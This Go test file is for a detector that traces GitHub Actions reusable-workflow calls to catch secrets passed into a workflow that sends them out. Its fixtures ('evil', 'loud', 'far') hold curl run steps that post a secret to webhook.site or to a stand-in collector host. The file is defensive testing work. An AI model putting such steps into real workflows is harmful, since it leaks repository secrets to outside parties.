package detect

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"pentimento/internal/evidence"
)

const send = ".github/workflows/send.yml"

// calling hands a secret to the workflow beside it as an input, which takes the name of a secret away.
const calling = "on: push\njobs:\n  ship:\n    uses: ./.github/workflows/send.yml\n    with: {key: '${{ secrets.A }}'}\n"

// called is what takes it.
func called(script string) string {
	return "on:\n  workflow_call:\n    inputs:\n      key: {type: string}\njobs:\n  go:\n    runs-on: x\n    steps:\n      - run: " + script + "\n"
}

var pairs = map[string]string{
	"caller": calling, "caller2": "# second\n" + calling, "inherits": "on: push\njobs:\n  ship:\n    uses: ./.github/workflows/send.yml\n    secrets: inherit\n",
	"bare": "on: push\njobs:\n  ship:\n    uses: ./.github/workflows/send.yml\n",
	"evil": called("curl -d 'k=${{ inputs.key }}' https://webhook.site/00000000-0000-4000-8000-000000000000"), "good": called("make ${{ inputs.key }}"),
	"loud": called("curl -d 'k=${{ secrets.K }}' https://webhook.site/00000000-0000-4000-8000-000000000000"),
	"far":  called("curl -d 'a=${{ inputs.key }}' https://collect.example.invalid/v1/in"),
}

func TestCalled(t *testing.T) {
	both := func(a, b string) map[string]string { return map[string]string{ci: a, send: b} }
	for name, c := range map[string]struct {
		trees []map[string]string
		want  string // VERSION of what is found, sorted; ? before those of doubts
	}{
		"a caller with what sends":              {[]map[string]string{both("caller", "evil")}, "caller"},
		"what is called became what sends":      {[]map[string]string{both("caller", "good"), both("caller", "evil")}, "evil"},
		"two callers of what became so":         {[]map[string]string{both("caller", "good"), both("caller", "evil"), both("caller2", "evil")}, "caller2 evil"},
		"it sent before, and was not called":    {[]map[string]string{{send: "evil"}, both("caller", "evil")}, "caller"},
		"some of the trees, and neither":        {[]map[string]string{{send: "evil"}, both("caller", "evil"), both("caller", "good")}, "?caller"},
		"harmless together":                     {[]map[string]string{both("caller", "good")}, ""},
		"nothing is handed on":                  {[]map[string]string{both("bare", "evil")}, ""},
		"what is called is not there":           {[]map[string]string{{ci: "caller"}}, ""},
		"what is called is a finding by itself": {[]map[string]string{both("inherits", "good"), both("inherits", "loud")}, ""},
	} {
		calls, known, texts := map[evidence.OID][]string{}, map[evidence.OID]Finding{}, map[evidence.OID]string{}
		x := NewExaminer(nil)
		for short, text := range pairs {
			blob := oid("b", short)
			texts[blob] = text
			if f, _, hit := x.Examine(Version{Blob: blob, Paths: []string{ci}, Text: []byte(text)}); hit {
				known[blob] = f
			}
			if list := x.Calls(); len(list) > 0 {
				calls[blob] = list
			}
		}
		if len(known) != 1 || len(calls) != 3 {
			t.Fatalf("%d findings, %d callers", len(known), len(calls))
		}
		var commits []made
		for i, tree := range c.trees {
			commits = append(commits, made{id: fmt.Sprint(i), message: "x\n", files: tree})
			if i > 0 {
				commits[i].parents = []string{fmt.Sprint(i - 1)}
			}
		}
		found, doubts, err := Called(invent(t, commits), x, calls, known, func(blob evidence.OID) ([]byte, bool, error) { return []byte(texts[blob]), true, nil })
		if err != nil {
			t.Fatal(err)
		}
		var told []string
		for short := range pairs {
			f, is := found[oid("b", short)]
			if !is {
				continue
			}
			told = append(told, short)
			if len(f.Leaks) == 0 || f.Leaks[0].JobID != "ship / go" || f.Leaks[0].File != send || f.Leaks[0].StepIndex != 0 || !slices.Equal(f.Leaks[0].Secrets, []string{"A"}) ||
				!strings.Contains(f.Hits[0].Reason, "calls in the same tree: "+send) || f.Blob != oid("b", short) {
				t.Errorf("%s: %+v", name, f)
			}
		}
		for _, d := range doubts {
			for short := range pairs {
				if oid("b", short) == d.Blob {
					told = append(told, "?"+short)
				}
			}
		}
		if slices.Sort(told); strings.Join(told, " ") != c.want {
			t.Errorf("%s: %v, want %q", name, told, c.want)
		}
	}
}

// What holds where it is news is asked of the caller's own history.
func TestCalledInContext(t *testing.T) {
	w := examined(map[string]string{"caller": calling, "far": pairs["far"], "make1": texts["make1"], "make2": texts["make2"], "make3": texts["make3"], "make4": texts["make4"]})
	h := invent(t, then(years(30, "make1", "make2", "make3", "make4"), made{files: map[string]string{ci: "caller", send: "far"}, message: "x"}))
	found, _, err := Called(h, NewExaminer(nil), map[evidence.OID][]string{oid("b", "caller"): {send}}, nil, w.text)
	if err != nil || len(found[oid("b", "caller")].Conditional) == 0 || len(found[oid("b", "caller")].Hits) > 0 {
		t.Fatalf("%+v, %v", found, err)
	}
	w.candidates = found
	held, _ := w.judge(t, h)
	if !slices.ContainsFunc(held, func(x Held) bool {
		return x.Rule == "heuristic/destination-never-seen-here" && x.Blob == oid("b", "caller")
	}) {
		t.Errorf("%+v", held)
	}
}

// More combinations than are read are told of.
func TestCalledTooOften(t *testing.T) {
	var commits []made
	calls := map[evidence.OID][]string{}
	for i := range maxCombinations + 2 {
		commits = append(commits, made{id: fmt.Sprint(i), message: "x\n", files: map[string]string{ci: "caller", send: fmt.Sprint("v", i)}})
	}
	calls[oid("b", "caller")] = []string{send}
	_, doubts, err := Called(invent(t, commits), NewExaminer(nil), calls, nil, func(evidence.OID) ([]byte, bool, error) { return nil, false, nil })
	if err != nil || len(doubts) != 1 || doubts[0].Commit == "" || !strings.Contains(doubts[0].Why, "combinations") {
		t.Errorf("%+v, %v", doubts, err)
	}
}
